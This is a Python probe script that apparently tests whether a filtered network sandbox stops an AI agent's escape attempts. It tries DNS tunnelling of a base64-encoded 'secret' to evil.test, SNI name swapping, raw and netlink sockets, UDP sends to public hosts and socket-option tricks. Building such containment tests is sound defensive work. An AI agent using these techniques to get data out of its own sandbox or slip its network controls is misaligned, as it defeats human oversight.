"""What an agent would try in a filtered network. The argument names the attempt; facts are printed as JSON."""

import errno
import json
import socket
import ssl
import struct
import sys

WAIT = 10


def outcome(work):
    try:
        return work()
    except socket.gaierror:
        return "unknown name"
    except (ssl.SSLError, ConnectionError) as error:
        return "cut" if not isinstance(error, ConnectionRefusedError) else "ECONNREFUSED"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error)) if error.errno else "timed out"


def answer_of(connection, request):
    connection.sendall(request)
    return connection.recv(4096).decode("latin1").split("\r\n")[0] or "cut"


def asked(host, port, request=b"GET /asked HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"):
    """The first line of what comes back."""

    def work():
        with socket.create_connection((host, port), WAIT) as connection:
            return answer_of(connection, request)

    return outcome(work)


def literals(arguments):
    return {f"{host} {port}": asked(host, port) for host in arguments["hosts"] for port in (80, 443, 22)}


def names(arguments):
    return {host: asked(host, 80, f"GET /{host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()) for host in arguments["hosts"]}


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + struct.pack(">HH", kind, 1)


def told(message):
    return f"code {message[3] & 15}, {struct.unpack('>H', message[6:8])[0]} answers"


def resolved(server, name, kind, over="udp"):
    def work():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if over == "udp" else socket.SOCK_STREAM) as asking:
            asking.settimeout(WAIT)
            asking.connect((server, 53))
            message = question(name, kind)
            asking.sendall(message if over == "udp" else struct.pack(">H", len(message)) + message)
            return told(asking.recv(4096)[0 if over == "udp" else 2 :])

    return outcome(work)


def questions(arguments):
    ours = "198.18.0.53"
    kinds = {"A": 1, "TXT": 16, "AAAA": 28, "HTTPS": 65, "ANY": 255, "MX": 15}
    long = ".".join(["x" * 60] * 3 + ["evil.test"])
    return {
        "listed": {kind: resolved(ours, "good.test", number) for kind, number in kinds.items()},
        "unlisted": {kind: resolved(ours, "c2VjcmV0.evil.test", number) for kind, number in kinds.items()},
        "long": resolved(ours, long, 1),
        "over TCP": resolved(ours, "c2VjcmV0.evil.test", 1, "tcp"),
        "elsewhere": {
            f"{server} {over}": resolved(server, "good.test", 1, over)
            for server in ("8.8.8.8", "1.1.1.1", "10.0.0.2", "198.18.0.54", "127.0.0.53")
            for over in ("udp", "tcp")
        },
    }


def secured(server_name, host="good.test"):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE

    def work():
        with socket.create_connection((host, 443), WAIT) as plain:
            with context.wrap_socket(plain, server_hostname=server_name) as connection:
                return answer_of(connection, b"GET /secured HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n")

    return outcome(work)


def hellos(arguments):
    return {
        "own name": secured("good.test"),
        "another listed name": secured("other.test"),
        "an unlisted name": secured("evil.test"),
        "no name": secured(None),
        "an address": secured("93.184.216.34"),
        "no TLS": asked("good.test", 443),
        "old TLS": outcome(old_hello),
    }


def old_hello():
    body = b"\x03\x01" + b"r" * 32 + b"\x00\x00\x02\x00\x2f\x01\x00"
    handshake = b"\x01" + struct.pack(">I", len(body))[1:] + body
    with socket.create_connection(("good.test", 443), WAIT) as connection:
        connection.sendall(b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake)
        first = connection.recv(1)
        return {b"\x15": "cut", b"": "cut"}.get(first, f"answered {first!r}")


def requests(arguments):
    return {title: asked("good.test", 80, text.encode("latin1")) for title, text in arguments["requests"].items()}


def ways(arguments):
    def made(*kind):
        return outcome(lambda: socket.socket(*kind).close() or "made")

    def sent(address, family=socket.AF_INET):
        def work():
            with socket.socket(family, socket.SOCK_DGRAM) as out:
                out.settimeout(1)
                out.connect(address)
                out.send(b"secret")
                return out.recv(16) and "answered"

        return outcome(work)

    def bound(address, port, *options):
        def work():
            with socket.socket() as server:
                for option in options:
                    server.setsockopt(socket.SOL_SOCKET, option, 1)
                server.bind((address, port))
                return "bound"

        return outcome(work)

    def optioned(level, option, value):
        def work():
            with socket.socket() as out:
                out.setsockopt(level, option, value)
                out.settimeout(1)  # what is sent out by the loopback device comes to nobody
                out.connect(("93.184.216.34", 443))
                return "connected"

        return outcome(work)

    def address_added():
        header = struct.pack("=IHHII", 24 + 8, 20, 0x605, 1, 0)
        body = struct.pack("=BBBBI", 2, 8, 0, 0, 1) + struct.pack("=HH4B", 8, 2, 10, 9, 8, 7)
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
            link.send(header + body)
            number = -struct.unpack("=i", link.recv(4096)[16:20])[0]
            return errno.errorcode.get(number, "done")

    return {
        "sockets": {
            "raw": made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            "raw 6": made(socket.AF_INET6, socket.SOCK_RAW, 58),
            "packet": made(17, socket.SOCK_RAW, 0),
            "vsock": made(40, socket.SOCK_STREAM, 0),
            "sctp": made(socket.AF_INET, socket.SOCK_STREAM, 132),
            "bluetooth": made(31, socket.SOCK_RAW, 0),
        },
        "datagrams": {
            "public": sent(("93.184.216.34", 443)),
            "QUIC to a listed host": sent((socket.gethostbyname("good.test"), 443)),
            "IPv6": sent(("2606:2800:220:1:248:1893:25c8:1946", 443), socket.AF_INET6),
        },
        "ports of ours": {
            "53": bound("0.0.0.0", 53),
            "443": bound("0.0.0.0", 443, socket.SO_REUSEADDR),
            "443 shared": bound("198.18.0.9", 443, socket.SO_REUSEPORT),
        },
        "options": {
            "device": optioned(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo"),
            "mark": optioned(socket.SOL_SOCKET, 36, 1),
            "transparent": optioned(socket.IPPROTO_IP, 19, 1),
            "free bind": optioned(socket.IPPROTO_IP, 15, 1),
        },
        "netlink": outcome(address_added),
    }


def many(arguments):
    """How many connections are answered at the same time."""
    held, answered = [], 0
    for _ in range(arguments["count"]):
        try:
            connection = socket.create_connection(("good.test", 22), WAIT)
            held.append(connection)
            connection.sendall(b"x")
            answered += connection.recv(1) == b"x"
        except OSError:
            pass
    return {"answered": answered}


if __name__ == "__main__":
    attempts = {each.__name__: each for each in (literals, names, questions, hellos, requests, ways, many)}
    print(json.dumps(attempts[sys.argv[1]](json.loads(sys.argv[2]))))
